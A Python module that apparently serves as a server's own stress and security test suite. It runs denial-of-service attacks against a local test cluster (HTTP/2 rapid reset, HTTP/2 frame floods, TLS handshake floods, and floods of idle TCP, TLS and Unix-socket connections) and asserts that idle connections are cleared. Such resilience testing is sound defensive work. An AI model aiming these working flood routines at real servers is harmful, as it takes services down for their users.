"""Too much of what is allowed: frames, streams, connections."""

import socket
import ssl
import struct
import threading
import time

import http2
from attack import attack, must
from http2 import ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame

EVERYWHERE = "agents enrollment socket api"
SECONDS = 1.5  # of each flood


def flood(cluster, port, batches, reads=True, seconds=SECONDS):
    """Sends what `batches` yields until the other side closes, with a new connection each time, for `seconds`. How many
    batches went out."""
    until = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < until:
        try:
            connection = cluster.http2(port)
            connection.sock.settimeout(3)
            for batch in batches():
                connection.send(batch)
                sent += 1
                if time.monotonic() > until:
                    break
                if reads:
                    connection.receive(0, answer=False)
            if not reads:
                connection.drain(0.2, answer=False)
            connection.close()
        except http2.Closed:
            time.sleep(0.01)
    return sent


@attack(EVERYWHERE, heavy=True)
def rapid_reset(cluster, port):
    """HTTP/2 rapid reset: streams opened and reset at once, up to fifty thousand on a connection."""
    block = http2.request(port.method)
    reset = struct.pack(">I", 8)

    def batches():
        for start in range(1, 100_001, 200):
            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
                           for stream in range(start, start + 200, 2))

    return f"{100 * flood(cluster, port, batches)} streams"


@attack(EVERYWHERE, heavy=True)
def frame_floods(cluster, port):
    """Floods of SETTINGS and PING (read and not read), PRIORITY, empty DATA, WINDOW_UPDATE, empty CONTINUATION and resets of
    closed streams."""
    opened = frame(HEADERS, END_HEADERS, 1, http2.request(port.method))
    floods = {
        "SETTINGS": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), True),
        "SETTINGS, unread": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), False),
        "PING": (b"", frame(PING, 0, 0, b"12345678"), True),
        "PING, unread": (b"", frame(PING, 0, 0, b"12345678"), False),
        "PING acknowledged": (b"", frame(PING, ACK, 0, b"12345678"), True),
        "PRIORITY": (b"", frame(PRIORITY, 0, 3, b"\0\0\0\1\x10"), True),
        "empty DATA": (opened, frame(DATA, 0, 1), True),
        "WINDOW_UPDATE": (b"", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), True),
        "empty CONTINUATION": (frame(HEADERS, 0, 1, http2.request(port.method)), frame(CONTINUATION, 0, 1), True),
        "RST_STREAM": (b"", frame(RST_STREAM, 0, 1, b"\0\0\0\x08"), True),
    }
    notes = []
    for name, (first, one, reads) in floods.items():

        def batches(first=first, one=one):
            yield first + one
            for _ in range(500):
                yield one * 1000

        notes.append(f"{name} {flood(cluster, port, batches, reads, 0.4)}k")
    return ", ".join(notes)


@attack("agents enrollment api https", heavy=True)
def handshakes(cluster, port):
    """TLS handshakes one after the other from four threads, each thrown away: they cost the server more than who asks."""
    count = []
    until = time.monotonic() + SECONDS

    def work(source):
        while time.monotonic() < until:
            try:
                cluster.secured(port, source).close()
                count.append(1)
            except OSError:
                time.sleep(0.005)

    threads = [threading.Thread(target=work, args=(f"127.0.1.{i}",)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{len(count)} handshakes"


def crowd(port, count, addresses, stay, wrap=None):
    """`count` connections from so many addresses, kept for `stay` seconds. How many were open at once, and how many still were
    at the end."""
    socks = []
    for index in range(count):
        try:
            sock = port.tcp(f"127.1.{index % addresses // 250}.{index % addresses % 250 + 1}", timeout=3)
            socks.append(wrap(sock) if wrap else sock)
        except OSError:
            pass
    open_ = sum(1 for sock in socks if not is_closed(sock))
    until = time.monotonic() + stay
    left = socks
    while left and time.monotonic() < until:
        left = [sock for sock in left if not is_closed(sock)]
        time.sleep(0.25)
    for sock in socks:
        sock.close()
    return open_, len(left)


def is_closed(sock):
    try:
        sock.setblocking(False)
        while sock.recv(65536):
            pass
        return True
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


@attack("agents enrollment api https", heavy=True, recorded="connections")
def ten_thousand_from_one(cluster, port):
    """Ten thousand connections from one address that say nothing: few are kept, and those not for long."""
    open_, left = crowd(port, 10_000, 1, 15)
    must(left == 0, f"{left} connections that never said a word are still open")
    return f"{open_} open at once"


@attack("agents enrollment api https", heavy=True)
def ten_thousand_from_many(cluster, port):
    """Ten thousand connections from five hundred addresses that say nothing: cleared, others served."""
    open_, left = crowd(port, 10_000, 500, 15)
    must(left == 0, f"{left} connections that never said a word are still open")
    return f"{open_} open at once"


@attack("agents enrollment api https", heavy=True)
def idle_after_tls(cluster, port):
    """Connections from five hundred addresses that finish their handshake and say nothing: on the enrolment port more than it has places."""
    context = cluster.context(port)

    def wrap(sock):
        return context.wrap_socket(sock, server_hostname="hostq-manager")

    open_, left = crowd(port, 1200 if port.name == "enrollment" else 700, 500, 15, wrap)
    must(left == 0, f"{left} connections are still open")
    return f"{open_} open at once"


@attack("socket", heavy=True)
def crowd_on_the_socket(cluster, port):
    """Two thousand connections on the local socket that say nothing."""
    socks = []
    for _ in range(2000):
        try:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(3)
            sock.connect(port.address)
            socks.append(sock)
        except OSError:
            break
    time.sleep(1)
    open_ = sum(1 for sock in socks if not is_closed(sock))
    until = time.monotonic() + 15
    while any(not is_closed(sock) for sock in socks) and time.monotonic() < until:
        time.sleep(0.25)
    left = sum(1 for sock in socks if not is_closed(sock))
    must(left == 0, f"{left} connections that never said a word are still open")
    return f"{open_} open at once"
